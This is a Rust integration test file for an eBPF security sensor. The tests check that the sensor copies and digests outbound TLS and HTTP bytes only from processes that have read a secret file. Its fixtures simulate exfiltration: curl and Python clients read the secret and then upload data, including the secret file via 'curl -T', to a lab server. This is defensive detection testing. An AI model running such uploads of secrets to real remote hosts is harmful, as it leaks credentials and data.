//! The kernel copies the bytes a tainted process sends — TLS plaintext before encryption
//! (curl and Python through OpenSSL), plain HTTP — and nobody else's. The sensor runs with its
//! outbound diagnostic (`VIGIE_DIAG_OUTBOUND_DIGESTS`), which prints each stream's byte count
//! and FNV-1a digest to stderr, never the bytes; a server on the remote host reports the same
//! two figures for what it received, and they must agree.

use std::io::{BufRead, BufReader, Write};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdout, Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{bail, ensure, Context, Result};
use integration_tests::bpf_objects::attached_tracepoints;
use integration_tests::host_tools::{self, quoted};
use integration_tests::sensor::Documents;
use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};

const DIGESTS_ENV: (&str, &str) = ("VIGIE_DIAG_OUTBOUND_DIGESTS", "1");
/// Bytes uploaded: a few KiB, more than one kernel chunk (1 KiB), under a call's cap (16 KiB).
const PAYLOAD_BYTES: usize = 6000;
const POLL: Duration = Duration::from_millis(20);

/// A known payload that is no secret: printable, so it can go in an HTTP body as is.
fn payload() -> Vec<u8> {
    (0..PAYLOAD_BYTES).map(|i| b'a' + u8::try_from(i % 26).unwrap_or(0)).collect()
}

/// FNV-1a (64 bits), as the agent's diagnostic and the server compute it.
fn fnv1a(bytes: &[u8]) -> String {
    let hash = bytes
        .iter()
        .fold(0xcbf2_9ce4_8422_2325_u64, |h, &b| (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3));
    format!("{hash:016x}")
}

/// An HTTP(S) server on the remote host that takes one request, answers 200, and reports the
/// length and digest of everything it received.
const SERVER: &str = r"
import socket, ssl, sys
listener = socket.create_server(('0.0.0.0', 0))
print(listener.getsockname()[1], flush=True)
conn, _ = listener.accept()
if sys.argv[1] != 'plain':
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[1], sys.argv[2])
    conn = context.wrap_socket(conn, server_side=True)
data = b''
while b'\r\n\r\n' not in data:
    chunk = conn.recv(65536)
    if not chunk:
        break
    data += chunk
head = data.split(b'\r\n\r\n')[0]
length = 0
for line in head.split(b'\r\n'):
    if line.lower().startswith(b'content-length:'):
        length = int(line.split(b':')[1])
while len(data) < len(head) + 4 + length:
    chunk = conn.recv(65536)
    if not chunk:
        break
    data += chunk
conn.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n')
digest = 0xcbf29ce484222325
for byte in data:
    digest = ((digest ^ byte) * 0x100000001b3) & 0xffffffffffffffff
print(len(data), '%016x' % digest, flush=True)
";

/// The remote server, its address and the pipe it reports on.
struct Server {
    child: Child,
    addr: SocketAddr,
    report: BufReader<ChildStdout>,
}

impl Server {
    /// Starts [`SERVER`] in the remote host's namespace: TLS with `cert` unless `None`.
    fn start(lab: &Lab, cert: Option<&(PathBuf, PathBuf)>) -> Result<Self> {
        let mut command = Command::new("ip");
        command.args(["netns", "exec", lab.remote().namespace(), "python3", "-c", SERVER]);
        match cert {
            Some((cert, key)) => command.arg(cert).arg(key),
            None => command.arg("plain"),
        };
        let mut child =
            command.stdin(Stdio::null()).stdout(Stdio::piped()).spawn().context("start the server")?;
        let mut report = BufReader::new(child.stdout.take().context("server stdout")?);
        let mut port = String::new();
        report.read_line(&mut port)?;
        let port = port.trim().parse().with_context(|| format!("the server's port: {port:?}"))?;
        Ok(Self { child, addr: SocketAddr::new(lab.remote().ipv4().into(), port), report })
    }

    /// What the server received: its length and digest.
    fn received(mut self) -> Result<(u64, String)> {
        let mut line = String::new();
        self.report.read_line(&mut line)?;
        let _ = self.child.wait();
        let (len, digest) = line.trim().split_once(' ').with_context(|| format!("server report {line:?}"))?;
        Ok((len.parse()?, digest.to_owned()))
    }
}

/// A self-signed certificate and key in the lab's directory.
fn certificate(dir: &Path) -> Result<(PathBuf, PathBuf)> {
    let (cert, key) = (dir.join("cert.pem"), dir.join("key.pem"));
    let (cert_arg, key_arg) = (cert.display().to_string(), key.display().to_string());
    host_tools::run(
        "openssl",
        &["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=vigie-test"]
            .into_iter()
            .chain(["-keyout", &key_arg, "-out", &cert_arg])
            .collect::<Vec<_>>(),
    )?;
    Ok((cert, key))
}

/// Runs `command` (a `sh` script) in a shell that first reads the secret, waits until the
/// sensor reported that read and, on the page cache backend, attached its syscall programs,
/// and only then runs it (`exec`: same pid, still tainted). Returns that pid.
fn run_tainted(lab: &Lab, sensor: &Sensor, command: &str) -> Result<u32> {
    let script = format!("read secret < {}; read go; exec {command}", quoted(lab.secret()));
    let mut shell = Command::new("sh")
        .args(["-c", &script])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::inherit())
        .spawn()?;
    let pid = shell.id();
    sensor.expect(alert::is_secret_read_by(pid), ALERT_TIMEOUT)?;
    let deadline = Instant::now() + ALERT_TIMEOUT;
    while !attached_tracepoints(sensor.pid())?.contains("sys_enter") {
        ensure!(Instant::now() < deadline, "the syscall programs were not attached");
        thread::sleep(POLL);
    }
    shell.stdin.take().context("stdin")?.write_all(b"go\n")?;
    let status = shell.wait()?;
    ensure!(status.success(), "{command}: {status}");
    Ok(pid)
}

/// The byte count and digest the agent printed last for `pid`'s stream over `path` to `dest`.
fn stream_tally(sensor: &Sensor, pid: u32, path: &str, dest: SocketAddr) -> Option<(u64, String)> {
    let prefix = format!("vigie-outbound pid={pid} sender=Tainted path={path} destination={dest}/tcp ");
    let stderr = sensor.stderr();
    let last = stderr.lines().rev().find_map(|line| line.strip_prefix(&prefix))?;
    let bytes = last.split_whitespace().find_map(|f| f.strip_prefix("bytes="))?.parse().ok()?;
    let digest = last.split_whitespace().find_map(|f| f.strip_prefix("fnv1a64="))?;
    Some((bytes, digest.to_owned()))
}

/// Waits until the agent counted `expected.0` bytes for the stream, then returns its tally.
fn wait_for_stream(
    sensor: &Sensor,
    pid: u32,
    path: &str,
    dest: SocketAddr,
    bytes: u64,
) -> Result<(u64, String)> {
    let deadline = Instant::now() + ALERT_TIMEOUT;
    loop {
        let tally = stream_tally(sensor, pid, path, dest);
        if let Some(tally) = tally.as_ref().filter(|(counted, _)| *counted >= bytes) {
            return Ok(tally.clone());
        }
        if Instant::now() >= deadline {
            bail!(
                "stream of {pid} over {path} to {dest}: {tally:?}, wanted {bytes} bytes\n{}",
                sensor.stderr()
            );
        }
        thread::sleep(POLL);
    }
}

fn sensor(lab: &Lab) -> Result<Sensor> {
    lab.sensor_with_env(&Documents::Stdout, &[] as &[&str], &[DIGESTS_ENV])
}

/// A curl command uploading the lab's payload file to `url`.
fn curl_upload(payload: &Path, url: &str) -> String {
    format!("curl -sSk -o /dev/null --max-time 10 -H 'Expect:' --data-binary @{} {url}", quoted(payload))
}

/// Writes the payload into the lab and returns its path.
fn payload_file(lab: &Lab) -> Result<PathBuf> {
    let path = lab.dir().join("payload");
    std::fs::write(&path, payload())?;
    Ok(path)
}

/// A tainted curl uploads the payload over TLS (`tls`) or plain HTTP: the kernel copied, on
/// `path`, exactly what the server received, to the server's address.
fn tainted_curl_upload_is_copied(tls: bool, path: &str) -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let cert = if tls { Some(certificate(lab.dir())?) } else { None };
    let sensor = sensor(&lab)?;
    let server = Server::start(&lab, cert.as_ref())?;
    let url = format!("{}://{}/", if tls { "https" } else { "http" }, server.addr);
    let dest = server.addr;
    let pid = run_tainted(&lab, &sensor, &curl_upload(&payload_file(&lab)?, &url))?;
    let received = server.received()?;
    assert!(received.0 > PAYLOAD_BYTES as u64, "the server got the request: {received:?}");
    assert_eq!(wait_for_stream(&sensor, pid, path, dest, received.0)?, received);
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_tainted_curls_https_upload_is_copied_as_plaintext_with_its_destination() -> Result<()> {
    tainted_curl_upload_is_copied(true, "openssl")
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_tainted_curls_plain_http_upload_is_copied_with_its_destination() -> Result<()> {
    tainted_curl_upload_is_copied(false, "socket")
}

/// Python's `ssl` sends a request head while untainted, then reads the secret and sends the
/// body on the same connection: only the body is copied — the sensor saw the process's TLS
/// writes, and left the untainted one alone.
#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn pythons_tls_bytes_are_copied_only_once_it_is_tainted() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let cert = certificate(lab.dir())?;
    let sensor = sensor(&lab)?;
    let server = Server::start(&lab, Some(&cert))?;
    let dest = server.addr;
    let body = payload();
    let client = format!(
        "import socket, ssl\n\
         context = ssl.create_default_context()\n\
         context.check_hostname = False\n\
         context.verify_mode = ssl.CERT_NONE\n\
         tls = context.wrap_socket(socket.create_connection(('{ip}', {port}), timeout=10))\n\
         tls.sendall(b'POST / HTTP/1.1\\r\\nHost: vigie-test\\r\\nContent-Length: {len}\\r\\n\\r\\n')\n\
         open({secret:?}).read()\n\
         tls.sendall(open({payload:?}, 'rb').read())\n\
         tls.recv(4096)\n",
        ip = dest.ip(),
        port = dest.port(),
        len = body.len(),
        secret = lab.secret().display().to_string(),
        payload = payload_file(&lab)?.display().to_string(),
    );
    let mut python = Command::new("python3").args(["-c", &client]).stdin(Stdio::null()).spawn()?;
    let pid = python.id();
    let status = python.wait()?;
    ensure!(status.success(), "the python client failed: {status}");
    sensor.expect(alert::is_secret_read_by(pid), ALERT_TIMEOUT)?;
    let received = server.received()?;
    assert!(received.0 > body.len() as u64, "the server got head and body: {received:?}");
    let copied = wait_for_stream(&sensor, pid, "openssl", dest, body.len() as u64)?;
    assert_eq!(copied, (body.len() as u64, fnv1a(&body)), "only the body, sent once tainted");
    Ok(())
}

/// One curl uploads to one server first, then reads the secret for its next transfer (`-T`
/// opens the file when that transfer starts) and uploads it to another: the second upload is
/// copied, so the sensor followed this process, and nothing of the first is.
#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn an_untainted_curls_https_upload_is_not_copied() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let cert = certificate(lab.dir())?;
    let sensor = sensor(&lab)?;
    let (untainted, tainted) = (Server::start(&lab, Some(&cert))?, Server::start(&lab, Some(&cert))?);
    let (before, after) = (untainted.addr, tainted.addr);
    let payload = payload_file(&lab)?;
    let mut curl = Command::new("curl")
        .args(["-sSk", "-o", "/dev/null", "--max-time", "10", "-H", "Expect:", "-T"])
        .arg(&payload)
        .arg(format!("https://{before}/"))
        .args(["--next", "-sSk", "-o", "/dev/null", "--max-time", "10", "-H", "Expect:", "-T"])
        .arg(lab.secret())
        .arg(format!("https://{after}/"))
        .stdin(Stdio::null())
        .spawn()?;
    let pid = curl.id();
    ensure!(curl.wait()?.success(), "curl failed");
    sensor.expect(alert::is_secret_read_by(pid), ALERT_TIMEOUT)?;
    let first = untainted.received()?;
    assert!(first.0 > PAYLOAD_BYTES as u64, "the first upload arrived: {first:?}");
    let second = tainted.received()?;
    // Taint starts where the kernel sees the secret taken in: at its read (page cache backend),
    // after the request head went out, or at its open (syscall backend), before it.
    let secret = std::fs::read(lab.secret())?;
    let body = (secret.len() as u64, fnv1a(&secret));
    // Records come in ring order: once the second upload is counted, the first was handled.
    let copied = wait_for_stream(&sensor, pid, "openssl", after, body.0)?;
    assert!(
        copied == body || copied == second,
        "copied {copied:?}: the secret {body:?} or the request {second:?}"
    );
    let leaked: Vec<String> = sensor
        .stderr()
        .lines()
        .filter(|line| line.contains(&format!("destination={before}/")))
        .map(str::to_owned)
        .collect();
    assert!(leaked.is_empty(), "bytes of the untainted upload were copied: {leaked:?}");
    Ok(())
}
